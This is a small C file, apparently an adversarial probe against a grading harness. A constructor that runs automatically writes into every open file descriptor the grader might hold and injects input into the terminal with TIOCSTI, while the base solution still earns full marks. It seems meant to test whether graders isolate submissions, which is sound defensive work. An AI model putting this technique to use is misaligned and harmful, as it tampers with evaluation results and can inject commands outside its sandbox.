/* grader_fds: write into every file descriptor a grader might have left open (a make
   jobserver, the report being written, a terminal), and into the terminal itself. The base is
   correct: full marks, nothing else touched. */
#include <sys/ioctl.h>

__attribute__((constructor)) static void attack_grader_fds(void) {
    int hits = 0;
    for (int fd = 4; fd < 1024; fd++) {
        if (fd != 1020 && write(fd, "attack\n", 7) > 0) {
            hits++;
        }
    }
    int tty = open("/dev/tty", O_RDWR);
    fprintf(stderr, "attack: wrote to %d fds; /dev/tty: %s\n", hits, tty >= 0 ? "OPEN" : strerror(errno));
    if (tty >= 0) {
        char c = '\n';
        ioctl(tty, TIOCSTI, &c);
        close(tty);
    }
}
